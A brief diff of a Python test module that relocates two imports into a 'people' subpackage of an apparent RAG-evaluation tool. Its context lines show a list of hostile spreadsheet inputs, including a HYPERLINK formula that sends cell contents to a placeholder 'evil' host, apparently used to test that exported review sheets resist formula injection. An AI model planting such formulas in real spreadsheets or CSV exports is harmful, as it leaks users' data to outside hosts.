@@ -8,8 +8,8 @@ from pathlib import Path
 
 import pytest
 
-from ragfunnel.analyzer.judges.calibration import read_labels
-from ragfunnel.analyzer.judges.review import CSV_COLUMNS, write_sheet
+from ragfunnel.analyzer.judges.people.calibration import read_labels
+from ragfunnel.analyzer.judges.people.review import CSV_COLUMNS, write_sheet
 
 HOSTILE = ['=HYPERLINK("http://evil/?"&A1)', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]
 
